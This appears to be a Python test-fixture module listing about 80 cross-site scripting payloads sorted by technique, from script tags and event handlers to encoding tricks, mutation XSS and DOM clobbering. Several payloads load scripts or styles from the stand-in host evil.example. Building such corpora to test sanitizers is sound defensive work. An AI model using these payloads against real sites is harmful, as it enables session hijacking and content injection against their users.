"""Eighty ways in which words try to become code. Where one runs it calls `xss()`, a dialog, or another host."""

SCRIPTS = (
    "<script>xss(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/3.js></script>",
    "<script\t>xss(4)</script\t>",
    "<script/x>xss(5)</script>",
    "<<script>xss(6);//<</script>",
    "<scr<script>ipt>xss(7)</scr</script>ipt>",
    "<script type=module>import('//evil.example/8.js')</script>",
    "<script>xss(9)",
    "<noscript><p title='</noscript><script>xss(10)</script>'>",
)
HANDLERS = (
    "<img src=x onerror=xss(11)>",
    "<img src=x:x onerror\n=\nalert(12)>",
    "<body onload=xss(13)>",
    "<input autofocus onfocus=xss(14)>",
    "<details open ontoggle=xss(15)>",
    "<video><source onerror=xss(16)></video>",
    "<audio src onerror=xss(17)>",
    "<marquee onstart=xss(18)>",
    "<select autofocus onfocus=xss(19)></select>",
    "<div onanimationstart=xss(20) style=animation:x>",
    "<iframe srcdoc='<script>parent.xss(21)</script>'>",
    "<iframe onload=confirm(22)>",
    "<style onload=xss(23)></style>",
    "<link rel=stylesheet href=//evil.example/24.css onerror=xss(24)>",
)
FOREIGN = (
    "<svg onload=xss(25)>",
    "<svg><script>xss(26)</script></svg>",
    "<svg><animate onbegin=xss(27) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss(28)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss(29)>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=xss(30)></foreignObject></svg>",
    "<math><mi xlink:href=javascript:xss(31)>x</mi></math>",
    "<math href=javascript:xss(32)>x</math>",
    "<svg/onload=prompt(33)>",
)
BREAK_OUTS = (
    '" onmouseover="xss(34)',
    "' onfocus='xss(35)' autofocus x='",
    '"><img src=x onerror=xss(36)>',
    "'><svg onload=xss(37)>",
    '"/autofocus/onfocus="xss(38)',
    "` onerror=xss(39) `",
    "</title><script>xss(40)</script>",
    "</textarea><script>xss(41)</script>",
    "</style><script>xss(42)</script>",
    "</script><script>xss(43)</script>",
    "</option></select><img src=x onerror=xss(44)>",
    "--><script>xss(45)</script><!--",
    "]]><script>xss(46)</script>",
    "</p></mark><img src=x onerror=xss(47)>",
)
ADDRESSES = (
    "javascript:xss(48)",
    "JaVaScRiPt:xss(49)",
    "java\tscript:xss(50)",
    "\x01javascript:xss(51)",
    "javascript://harbour.example/%0axss(52)",
    "data:text/html,<script>parent.xss(53)</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKDU0KTwvc2NyaXB0Pg==",
    "vbscript:xss(55)",
    "<a href=javascript:xss(56)>x</a>",
    "<form action=javascript:xss(57)><input type=submit autofocus></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/58'>",
    "<base href=//evil.example/59/>",
)
TEMPLATES = (
    "{{7*7}}<img src=x onerror=xss(60)>",
    "{% debug %}{{ request.session }}{# 61 #}",
    "${xss(62)} #{xss(62)} <%= xss(62) %>",
    "%(claim)s %s {0} {claim.pk} %00 63",
    "{{constructor.constructor('xss(64)')()}}",
)
JSON_IN_HTML = (
    '</script><!--<script>{"x":"65"}',
    '"}];xss(66);[{"',
    "\u2028xss(67)\u2029",
    "\\u003cscript\\u003exss(68)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=xss(69)\\x3e",
)
ENTITIES_AND_ENCODINGS = (
    "&lt;script&gt;xss(70)&lt;/script&gt;",
    "&#60;img src=x onerror=xss(71)&#62;",
    "＜script＞xss(72)＜/script＞",
    "+ADw-script+AD4-xss(73)+ADw-/script+AD4-",
    "\u202e<img src=x onerror=xss(74)>\u202c",
    "\x0b<img\x0bsrc=x\x0bonerror=xss(75)>\ufeff",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss(76)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss(77)>",
    "<p style=\"background:url('//evil.example/78')\">x</p><style>*{background:url(//evil.example/78)}</style>",
)
CLOBBERING = (
    "<form id=xss79 name=querySelector><input name=action><input name=submit></form>",
    "<a id=xss80 name=location></a><img name=getElementById>",
)
PAYLOADS = (
    *SCRIPTS,
    *HANDLERS,
    *FOREIGN,
    *BREAK_OUTS,
    *ADDRESSES,
    *TEMPLATES,
    *JSON_IN_HTML,
    *ENTITIES_AND_ENCODINGS,
    *MUTATIONS,
    *CLOBBERING,
)
ALL = "\n\n".join(PAYLOADS)
GROUPS = ["\n".join(PAYLOADS[first : first + 5]) for first in range(0, len(PAYLOADS), 5)]
"""Five at a time, for what takes 500 characters."""
